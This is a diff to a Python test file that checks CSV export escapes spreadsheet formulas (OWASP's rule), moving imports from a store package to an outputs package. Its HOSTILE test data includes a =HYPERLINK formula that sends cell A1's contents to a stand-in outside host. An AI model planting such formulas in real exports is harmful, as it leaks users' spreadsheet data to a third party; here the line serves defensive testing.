@@ -1,5 +1,5 @@
 """CSV cells that a spreadsheet would run as formulas are written as text (OWASP's rule,
-src/duels_tui/store/csv_safe.py): the hostile texts are here, in a played session, and the file is
+src/duels_tui/outputs/csv_safe.py): the hostile texts are here, in a played session, and the file is
 read back with the csv module as a spreadsheet would split it."""
 
 from __future__ import annotations
@@ -15,8 +15,8 @@ import pytest
 from duels_tui.arena.testing import demo_catalog, demo_programme, stream_turn
 from duels_tui.arena.votes import VoteCounts
 from duels_tui.arena.workshop import Workshop
-from duels_tui.store.csv_safe import csv_text
-from duels_tui.store.export import export
+from duels_tui.outputs.csv_safe import csv_text
+from duels_tui.outputs.export import export
 
 HOSTILE = {
     "place": "=HYPERLINK(\"http://example.invalid/?\"&A1;\"clic\")",
